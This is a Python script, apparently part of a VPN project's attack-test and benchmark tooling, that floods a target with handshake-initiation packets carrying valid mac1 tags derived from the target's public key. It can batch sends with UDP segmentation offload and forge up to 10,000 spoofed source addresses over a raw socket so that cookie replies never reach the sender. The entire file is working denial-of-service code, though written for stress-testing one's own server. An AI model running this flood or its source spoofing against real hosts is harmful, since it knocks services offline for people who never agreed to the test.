#!/usr/bin/env python3
"""A valid-mac1 handshake-initiation flood, bounded in time, for attack tests and
`scripts/bench --attack`. mac1 needs nothing but the target's public key, so
every message passes the first check; the rest is random.

    flood.py DST_IP DST_PORT PUBKEY_B64 SECONDS [--gso] [--spoof CIDR [--sources N]] [--rate PPS]

--gso sends 64 datagrams per system call (UDP_SEGMENT), the rate a C flooder
reaches. --spoof sends from N (default 10,000) source addresses in CIDR (IPv4),
each with a port of its own, over a raw socket that writes its own IP header
(IP_HDRINCL; root): the target answers addresses nobody behind them will read,
so no cookie reply ever comes back to the flood. Route CIDR from the target to
this host and nowhere else; --rate paces it to PPS datagrams a second (in 1 ms
slices), without it as fast as it goes. SIGTERM ends any flood early.
Prints the number of datagrams sent and the rate as JSON.
"""

import base64
import hashlib
import ipaddress
import json
import os
import signal
import socket
import struct
import sys
import time

SOL_UDP, UDP_SEGMENT = 17, 103
SIZE, BATCH = 148, 64


def initiations(public: bytes, count: int) -> list[bytes]:
    key = hashlib.blake2s(b"mac1----" + public).digest()
    out = []
    for _ in range(count):
        body = b"\x01\x00\x00\x00" + os.urandom(112)
        out.append(body + hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16))
    return out


stopped = False  # SIGTERM


def stop(signum, frame) -> None:
    global stopped
    stopped = True


def option(name: str, default: str | None = None) -> str | None:
    return sys.argv[sys.argv.index(name) + 1] if name in sys.argv else default


def spoofed_headers(cidr: str, count: int, dst: str, port: int) -> list[bytes]:
    """An IPv4 and UDP header per source: the kernel fills in the IP checksum;
    a UDP checksum of 0 is "none" over IPv4."""
    net = ipaddress.IPv4Network(cidr)
    if count > net.num_addresses - 2:
        sys.exit(f"flood.py: {cidr} has fewer than {count} host addresses")
    out = []
    for i in range(count):
        src = net[1 + i]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 8 + SIZE, 0, 0x4000, 64, socket.IPPROTO_UDP, 0,
                         src.packed, socket.inet_aton(dst))
        out.append(ip + struct.pack("!HHHH", 1024 + i % 60000, port, 8 + SIZE, 0))
    return out


def spoof(ip: str, port: int, pool: list[bytes], seconds: float, cidr: str, sources: int, rate: int) -> tuple[int, int]:
    headers = spoofed_headers(cidr, sources, ip, port)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # IP_HDRINCL implied
    dst = (ip, 0)
    n = errors = 0
    start = time.monotonic()
    end = start + seconds
    while not stopped and (now := time.monotonic()) < end:
        due = int((now - start) * rate) if rate else n + 64
        while n < due:
            try:
                s.sendto(headers[n % sources] + pool[n % len(pool)], dst)
            except OSError:  # ENOBUFS: the device queue is full
                errors += 1
            n += 1
        if rate:
            time.sleep(0.001)
    return n - errors, errors


def main() -> None:
    ip, port, pub, seconds = sys.argv[1], int(sys.argv[2]), base64.b64decode(sys.argv[3]), float(sys.argv[4])
    gso = "--gso" in sys.argv
    rate = int(option("--rate", "0"))
    signal.signal(signal.SIGTERM, stop)
    pool = initiations(pub, 1024)
    started = time.monotonic()
    if "--spoof" in sys.argv:
        sent, errors = spoof(ip, port, pool, seconds, option("--spoof"), int(option("--sources", "10000")), rate)
        took = time.monotonic() - started
        print(json.dumps({"sent": sent, "errors": errors, "pps": round(sent / took)}), flush=True)
        return
    batches = [b"".join(pool[i:i + BATCH]) for i in range(0, len(pool), BATCH)]
    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_DGRAM)
    dst = (ip, port)
    sent = errors = 0
    end = time.monotonic() + seconds
    while not stopped and time.monotonic() < end:
        for i in range(64):
            try:
                if gso:
                    s.sendmsg([batches[i % len(batches)]], [(SOL_UDP, UDP_SEGMENT, SIZE.to_bytes(2, "little"))], 0, dst)
                    sent += BATCH
                else:
                    s.sendto(pool[i], dst)
                    sent += 1
            except OSError:
                errors += 1
    print(json.dumps({"sent": sent, "errors": errors, "pps": round(sent / (time.monotonic() - started))}), flush=True)


if __name__ == "__main__":
    main()
